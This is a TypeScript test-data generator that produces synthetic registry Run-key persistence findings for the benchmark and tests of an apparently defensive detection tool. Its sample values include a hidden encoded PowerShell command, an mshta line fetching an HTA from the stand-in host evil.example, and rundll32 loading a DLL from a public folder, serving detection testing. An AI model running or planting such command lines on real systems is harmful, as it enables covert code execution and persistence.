// Synthetic findings for the UI benchmark and the pure-logic tests: deterministic (seeded), shaped
// like the engine's output, and deliberately varied (hosts, users, writers, severities, shared
// normalized values) so sorting, filtering and grouping have real work to do. Dev-only: the app
// loads it solely on the benchmark page (?bench=N), never with evidence.

import { SEVERITIES, type Finding, type Severity } from '../../shared/model/finding';

/** mulberry32: small, fast, good enough for test data. */
export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const WRITERS = ['C:\\Windows\\System32\\reg.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe', 'C:\\Windows\\explorer.exe', 'C:\\Users\\bob\\AppData\\Local\\Temp\\setup.exe', 'C:\\Windows\\System32\\cmd.exe'];
const VALUES = [
  'C:\\Users\\%u\\AppData\\Roaming\\upd%n.exe',
  'powershell.exe -nop -w hidden -enc SQBFAFgA',
  '"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background',
  'mshta.exe http://evil.example/%n.hta',
  'C:\\ProgramData\\svc%n\\svc.exe',
  'rundll32.exe C:\\Users\\Public\\lib%n.dll,Start',
];
const REASONS = [
  { id: 'path.user-writable', title: 'Payload in a user-writable folder', weight: 30, attack: [] as string[] },
  { id: 'powershell.encoded', title: 'Encoded PowerShell', weight: 50, attack: ['T1059.001', 'T1027'] },
  { id: 'lolbin.mshta', title: 'mshta with a URL', weight: 45, attack: ['T1218.005'] },
  { id: 'writer.unusual', title: 'Unusual writer process', weight: 20, attack: [] as string[] },
];

export function syntheticFindings(count: number, seed = 42): Finding[] {
  const r = rng(seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)];
  const base = Date.UTC(2024, 2, 1);
  const out: Finding[] = [];
  for (let i = 0; i < count; i++) {
    const host = `WS-${String(Math.floor(r() * 500)).padStart(4, '0')}`;
    const user = `CORP\\user${Math.floor(r() * 200)}`;
    const template = pick(VALUES);
    const n = Math.floor(r() * 50);
    const value = template.replace('%u', user.slice(5)).replace('%n', String(n));
    const normalizedValue = template.replace('%u', 'userxx').replace('%n', String(n));
    const severity: Severity = pick(SEVERITIES);
    const timeMs = base + Math.floor(r() * 30 * 86400000);
    const reasons = REASONS.filter(() => r() < 0.4).map((x) => ({ ...x, explanation: `${x.title} (${i})` }));
    const baselined = r() < 0.1;
    out.push({
      id: `syn-${seed}-${i}`,
      basis: 'registry',
      host,
      user,
      time: new Date(timeMs).toISOString(),
      timeMs,
      location: 'run',
      locationTitle: r() < 0.5 ? 'Run' : 'RunOnce',
      registryKey: `HKU\\S-1-5-21-1-2-3-${1000 + (i % 7)}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`,
      valueName: `Updater${n}`,
      value,
      action: 'set-value',
      normalizedValue,
      writer: { image: pick(WRITERS), pid: 1000 + i, commandLine: 'reg add HKCU\\...\\Run' },
      score: Math.floor(r() * 100),
      severity,
      reasons,
      attack: ['T1547.001', ...new Set(reasons.flatMap((x) => x.attack))],
      baseline: baselined ? { status: 'baselined', entryId: 'builtin:onedrive' } : { status: 'none' },
      correlation: { writerAncestors: [], payloadCreated: [], executions: [], deletions: [] },
      evidence: { key: `synthetic.evtx#r${i}`, ref: { file: 'synthetic.evtx', format: 'evtx', recordId: i }, eventId: 13, source: 'sysmon' },
    });
  }
  return out;
}
